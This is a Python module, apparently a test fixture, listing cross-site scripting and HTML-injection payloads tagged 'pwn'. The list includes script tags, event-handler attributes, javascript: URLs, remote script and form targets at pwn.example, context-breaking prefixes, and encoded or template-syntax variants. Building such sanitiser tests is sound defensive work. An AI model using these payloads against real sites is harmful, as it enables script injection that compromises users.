"""Texts that would do something if any page took them for markup. Each brings an element or attribute named pwn."""

# What a browser would build or run.
ELEMENTS = (
    "<script pwn>alert(1)</script>",
    "<SCRIPT PWN>alert(1)</SCRIPT>",
    "<script pwn src=//pwn.example></script>",
    "<img pwn src=x onerror=alert(1)>",
    "<img/pwn/src=x/onerror=alert(1)>",
    "<svg pwn onload=alert(1)>",
    "<svg pwn><script>alert(1)</script></svg>",
    "<math pwn><mtext><img pwn src=x onerror=alert(1)>",
    "<iframe pwn srcdoc='<b pwn>'></iframe>",
    "<a pwn href=javascript:alert(1)>x</a>",
    "<object pwn data=javascript:alert(1)></object>",
    "<embed pwn src=//pwn.example>",
    "<base pwn href=//pwn.example>",
    "<meta pwn http-equiv=refresh content=0>",
    "<style pwn>*{display:none}</style>",
    "<link pwn rel=stylesheet href=//pwn.example>",
    "<form pwn action=//pwn.example><button pwn>",
    "<details pwn open ontoggle=alert(1)>",
    "<video pwn><source onerror=alert(1)></video>",
    "<b pwn>",
)
# What would end the place in which a text stands.
ENDS = ("", '">', "'>", "</title></textarea></script>", "--></style>")
# What no element is, yet would do something if decoded, folded or filled in once more.
OTHERS = (
    '" pwn onfocus=alert(1) autofocus x="',
    "' pwn onmouseover=alert(1) x='",
    "&lt;img pwn src=x onerror=alert(1)&gt;",
    "&#60;img pwn src=x onerror=alert(1)&#62;",
    "＜img pwn src=x onerror=alert(1)＞",
    "＂ pwn onfocus=alert(1) x=＂",
    "javascript:alert('pwn')",
    "{{ pwn }}{% pwn %}{# pwn #}",
    "${pwn}#{pwn}<%= pwn %>",
    "<![CDATA[<b pwn>]]>",
    "<!-- pwn --><b pwn><!--",
    "%3Cb%20pwn%3E",
)
PAYLOADS = (*(f"{end}{element}" for end in ENDS for element in ELEMENTS), *OTHERS)
